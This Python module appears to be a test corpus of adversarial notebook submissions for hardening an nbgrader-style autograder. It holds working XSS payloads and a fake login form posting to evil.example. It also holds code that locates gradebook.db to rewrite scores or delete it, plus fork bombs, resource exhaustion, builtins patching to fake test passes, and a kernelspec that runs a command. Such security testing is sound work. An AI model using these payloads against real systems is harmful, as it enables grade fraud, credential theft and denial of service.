# ruff: noqa: E501  (an attack is easier to read on one line)
"""More of the corpus: the gradebook, pages that run something, and further tricks of each group."""

from __future__ import annotations

import base64
import json

from .assignment import DOUBLE, cell_of
from .corpus import WRONG, Attack, _call, _try

FIND_GRADEBOOK = "import os, sqlite3, pathlib\ndef books():\n    here = pathlib.Path.cwd()\n    tops = [here, *here.parents[:3], pathlib.Path('/data'), pathlib.Path('/tmp')]\n    return [p for t in tops for p in (t / 'gradebook.db', t / 'grading' / 'gradebook.db') if p.exists()]\n"


def _book(name: str, *lines: str) -> Attack:
    """An attack on the gradebook, wherever it finds one."""
    made = _try("write gradebook", name, *lines)
    return Attack("write gradebook", name, FIND_GRADEBOOK + made.code)


GRADEBOOK = [
    _book("full marks by SQL", "b = books()[0]", "c = sqlite3.connect(b)", "c.execute('UPDATE grade SET manual_score = 99')", "c.commit()"),
    _book("delete it", "os.remove(books()[0])"),
    _book("overwrite it", "books()[0].write_bytes(b'x' * 1000)"),
    _book("lock it", "import subprocess, sys", "b = str(books()[0])", "subprocess.Popen([sys.executable, '-c', 'import sqlite3, sys, time; c = sqlite3.connect(sys.argv[1]); c.execute(\"BEGIN EXCLUSIVE\"); time.sleep(600)', b], start_new_session=True)", "import time; time.sleep(0.5)"),
    _book("by nbgrader's own interface", "from nbgrader.api import Gradebook", "g = Gradebook(f'sqlite:///{books()[0]}')", "for a in g.assignments:", "    for s in g.assignment_submissions(a.name):", "        for n in s.notebooks:", "            for x in n.grades: x.manual_score = 99", "g.db.commit()"),
    _book("through the roots of other processes", "found = []", "for p in os.listdir('/proc'):", "    for way in ('root', 'cwd'):", "        if p.isdigit() and os.path.exists(f'/proc/{p}/{way}'):", "            for t, d, f in os.walk(f'/proc/{p}/{way}/srv' if way == 'root' else f'/proc/{p}/{way}'):", "                found += [os.path.join(t, x) for x in f if x == 'gradebook.db']", "                if len(d) > 300: d.clear()", "c = sqlite3.connect(found[0])", "c.execute('DELETE FROM grade')", "c.commit()"),
    _book("another student's work", "b = books()[0]", "others = [p for p in b.parent.glob('submitted/*/*/*.ipynb') if 'other' in str(p)]", "others[0].write_text('{}')"),
    _book("another student's graded notebook", "b = books()[0]", "others = [p for p in b.parent.glob('autograded/*/*/*.ipynb') if 'other' in str(p)]", "(others or [p for p in b.parent.glob('source/*/*.ipynb')])[0].write_text('{}')"),
    _book("the course's configuration", "b = books()[0]", "f = open(b.parent / 'nbgrader_config.py', 'a')", "f.write('import os')", "f.close()"),
    _book("a gradebook of its own", "c = sqlite3.connect('gradebook.db')", "c.execute('CREATE TABLE grade (x)')", "c.commit()", "assert [b for b in books() if b.parent != pathlib.Path.cwd()]"),
]  # fmt: skip


def _why(text: str, **more):
    def change(book):
        cell_of(book, "why")["source"] = text
        cell_of(book, "why").update(more)

    return change


def _page(name: str, text: str, **more) -> Attack:
    """Something in the written answer."""
    return Attack("page injection", name, double=3.0, change=_why(text, **more))


def _shown(name: str, code: str) -> Attack:
    """Something in an output of the student's cell."""
    return Attack("page injection", name, f"{code}\n{DOUBLE}", double=3.0)


PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 50).decode()
PAGES = [
    _page("script in the written answer", "Because <script>alert(document.cookie)</script>."),
    _page("picture that fails", 'x <img src=x onerror="alert(1)"> y'),
    _page("SVG", "<svg onload=alert(1)><circle/></svg>"),
    _page("frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _page("refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    _page("form", '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>'),
    _page("style", "<style>body { display: none }</style>"),
    _page("link to a script", "[solution](javascript:alert(1))"),
    _page("link with character references", "[s](&#106;avascript&colon;alert(1)) and [t](java&Tab;script:alert(1))"),
    _page("link by reference", "[s][1]\n\n[1]: JaVaScRiPt:alert(1)"),
    _page("link with a backslash", "[s](javascript\\:alert(1)) <javascript:alert(1)>"),
    _page("link to data", "[s](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    _page("picture from elsewhere", "![t](https://evil.example/pixel.png) ![u][p]\n\n[p]: https://evil.example/2.png"),
    _page("missing attachment", "![t](attachment:gone.png)"),
    _page("attachment", "![t](attachment:a.png)", attachments={"a.png": {"image/svg+xml": "<svg onload=alert(1)/>"}}),
    _page("link in a formula", r"$\href{javascript:alert(1)}{x}$"),
    _page("tag split over lines", "a <img\nsrc=x\nonerror=alert(1)\n> b"),
    _page("broken tags", "<<script>alert(1)//<</script> <img src=`x`onerror=alert(1) <a onmouseover=alert(1)"),
    _page("comment", "<!--><script>alert(1)</script>-->"),
    _page("in a heading", "# <img src=x onerror=alert(1)>\n\n<h1 id=x onclick=alert(1)>x</h1>"),
    _page("in a table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    _shown("pages and scripts as outputs", "from IPython.display import HTML, Javascript, SVG, Markdown, Latex, IFrame, display\ndisplay(HTML('<script>alert(1)</script>'), Javascript('alert(1)'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'), Markdown('<script>alert(1)</script>'), Latex('$\\\\href{javascript:alert(1)}{x}$'), IFrame('https://evil.example', 9, 9))"),
    _shown("a page that calls itself a picture", "display({'image/png': '\"><script>alert(1)</script>', 'image/jpeg': 'PHNjcmlwdD4='}, raw=True)"),
    _shown("markup behind a picture's bytes", f"display({{'image/png': {PNG!r} + '\"><script>alert(1)</script>'}}, raw=True)"),
    _shown("widget and Jupyter's own types", "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}, 'application/vnd.bokehjs_exec.v0+json': '', 'text/html': '<b onclick=alert(1)>x'}, raw=True)"),
    _shown("markup in prints", "print('<script>alert(1)</script></pre><img src=x onerror=alert(1)>')"),
    _shown("terminal codes", "print('\\x1b[31m\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07\\x1b[2J\\x9b31m')"),
    _shown("text in reverse", "print('\\u202egpj.exe \\u2066x\\u2069')"),
    Attack("page injection", "markup in an error", "def double(x):\n    raise type('<script>alert(1)<_script>', (ValueError,), {})('<img src=x onerror=alert(1)>')"),
    Attack("page injection", "markup in what it answers", "def double(x):\n    return '<script>alert(1)</script>'"),
    _call("page injection", "markup printed while tests run", "print('</pre><script>alert(1)</script>')\nreturn 2 * x", double=3.0),
    Attack("page injection", "a type of output named like a tag", "def double(x):\n    return 2 * x\ndisplay({'text/plain': 'x', '<script>alert(1)</script>': 'y'}, raw=True, metadata={'</script>': 1})", double=3.0),
    Attack("page injection", "markup in the code", "x = '</pre></div><script>alert(1)</script><img src=x onerror=alert(1)>'\n" + DOUBLE, double=3.0),
    Attack("page injection", "a cell of its own with markup", double=3.0, change=lambda book: book["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "<script>alert(1)</script>", "id": "<script>"})),
]  # fmt: skip


def _twin(book):
    book["cells"].insert(3, json.loads(json.dumps(cell_of(book, "double"))) | {"source": WRONG})


def _ready_outputs(book):
    for cell in book["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "execute_result", "data": {"text/plain": "9.0"}, "metadata": {}, "execution_count": 1}
            ]


def _bare(*sources: str):
    """The notebook as another program leaves it: these code cells, no metadata."""

    def change(book):
        book["cells"] = [{"cell_type": "code", "metadata": {}, "source": s, "outputs": []} for s in sources]

    return change


def _odd_metadata(book):
    answer, check = cell_of(book, "double"), cell_of(book, "double_check")
    answer["metadata"], check["metadata"] = {"nbgrader": ["x"], "tags": {"in-kernel": 1}}, 3
    book["metadata"] = [1]


def _in_kernel(book):
    for cell in book["cells"]:
        cell["metadata"]["tags"] = ["in-kernel"]


def _pictures(book):
    source = "from IPython.display import display\nfor i in range(40):\n    display({'image/png': 'iVBORw0KGgo' + 'A' * 1_000_000 + str(i % 10) * 5}, raw=True)"
    book["cells"] += [
        {"cell_type": "code", "metadata": {}, "source": source, "id": f"p{i}", "outputs": []} for i in range(60)
    ]


def _settings(**values):
    def change(book):
        book |= values
        return book

    return change


STRUCTURE = [
    Attack("notebook structure", "the answer twice, the wrong one second", double=3.0, change=_twin),
    Attack("notebook structure", "outputs with points in the tests", WRONG, change=_ready_outputs),
    Attack("notebook structure", "no cells", even=0, change=_settings(cells=[])),
    Attack("notebook structure", "odd metadata", double=3.0, change=_odd_metadata),
    Attack("notebook structure", "calls its tests in-kernel", "import builtins\nbuiltins.all = lambda x: True\ndef double(x):\n    return 0", change=_in_kernel),
    Attack("notebook structure", "six hundred magics", even=0, change=_bare("%pwd\n" * 600 + DOUBLE)),
    Attack("notebook structure", "magics in a large cell", even=0, change=_bare("%pwd\n" * 400 + "x = 1\n" * 60_000 + DOUBLE)),
    Attack("notebook structure", "brackets that never end", even=0, change=_bare("(" * 100_000, "[" * 190 + "]" * 190)),
    Attack("notebook structure", "long chains", even=0, change=_bare("-" * 200_000 + "1", "x" + ".x" * 200_000, "x" + "()" * 150_000, "if x: pass\n" + "elif x: pass\n" * 30_000)),
    Attack("notebook structure", "format strings in each other", even=0, change=_bare("f'{" * 90 + "x" + "}'" * 90, "lambda:" * 60_000 + "1")),
    Attack("notebook structure", "two thousand cells", even=0, change=_bare(*["x = 1"] * 1999)),
    Attack("notebook structure", "Python of another time", "print 'x'\nexec 'y'", even=4),
    Attack("notebook structure", "a language of its own", even=0, change=_settings(metadata={"kernelspec": {"name": "ir", "language": "R"}})),
    Attack("notebook structure", "a kernel of its own", double=3.0, change=_settings(metadata={"kernelspec": {"name": "evil", "display_name": "x", "argv": ["touch", "/tmp/x"]}})),
]  # fmt: skip

HANG = [
    Attack("hang", "a pattern that never ends", "import re\nre.match('(a+)+$', 'a' * 60 + 'b')", even=None),
    Attack("hang", "a value that never prints", "class V:\n    def __repr__(self):\n        while True: pass\nV()"),
    Attack("hang", "waits for a pipe", "import os\nos.mkfifo('p')\nopen('p').read()"),
    Attack("hang", "stops the timer", "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\nwhile True:\n    pass", even=None),
    Attack("hang", "keyboard input", "x = input()"),
    Attack("hang", "loop when it is thrown away", "class V:\n    def __del__(self):\n        while True: pass\nv = V()\ndel v", even=None),
    _call("hang", "an endless answer", "while True:\n    yield 4"),
    _call("hang", "a lock", "import threading\nl = threading.Lock()\nl.acquire()\nl.acquire()"),
    Attack("hang", "sleeps a little in every call", "import time\ndef double(x):\n    time.sleep(0.25)\n    return 2 * x", double=1.0),
]  # fmt: skip
BOMB = [
    Attack("bomb", "shell forks", "!:(){ :|:& };:", even=None),
    Attack("bomb", "a program that prints for ever", "!yes"),
    Attack("bomb", "thousands of pictures", double=3.0, change=_pictures, even=None),
    Attack("bomb", "an error of a hundred megabytes", "raise ValueError('x' * 10**8)"),
    Attack("bomb", "an error with a long chain", "e = None\nfor i in range(20_000):\n    n = ValueError(i)\n    n.__cause__ = e\n    e = n\nraise e", even=None),
    Attack("bomb", "recursion without a limit", "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()", even=None),
    _try("bomb", "a million files", "for i in range(1_000_000):", "    open(f'/tmp/f{i}', 'w').close()"),
    _try("bomb", "memory that counts as a stack", "import ctypes, mmap", "m = ctypes.CDLL(None).mmap", "m.restype = ctypes.c_void_p", "assert m(None, ctypes.c_size_t(10**10), 3, 0x122, -1, 0) not in (None, 2**64 - 1)"),
    Attack("bomb", "busy processes in sessions of their own", "import os\nfor i in range(35):\n    try:\n        if os.fork() == 0:\n            os.setsid()\n            while True: pass\n    except OSError:\n        break\n" + DOUBLE, double=None, even=None),
    Attack("bomb", "memory in many processes", "import os\nfor i in range(30):\n    if os.fork() == 0:\n        x = bytearray(200_000_000)\n        while True: pass\nimport time\ntime.sleep(5)", even=None),
    Attack("bomb", "socket buffers", "import socket\nkept = []\ntry:\n    while True:\n        a, b = socket.socketpair()\n        a.setblocking(False)\n        kept += [a, b]\n        try:\n            while True: a.send(b'x' * 65536)\n        except BlockingIOError:\n            pass\nexcept OSError:\n    pass"),
    _call("bomb", "a hundred thousand small answers", "for i in range(10**6):\n    sys.stdout.write(f'{i}\\n')\nreturn 2 * x", double=None, even=None),
]  # fmt: skip
EXIT = [
    Attack("exit", "abort", "import os\nos.abort()", even=None),
    Attack("exit", "kills itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)"),
    Attack("exit", "becomes another program", "import os\nos.execv('/bin/sleep', ['sleep', '600'])", even=None),
    Attack("exit", "quit", "quit()\nexit()\nget_ipython().ask_exit()"),
    Attack("exit", "interrupts itself", "raise KeyboardInterrupt()"),
    _call("exit", "interrupts the test", "raise KeyboardInterrupt()"),
    _call("exit", "closes its line in the function", "os.close(4)\nreturn 2 * x", even=None),
    _call("exit", "generator exit", "raise GeneratorExit()"),
]  # fmt: skip
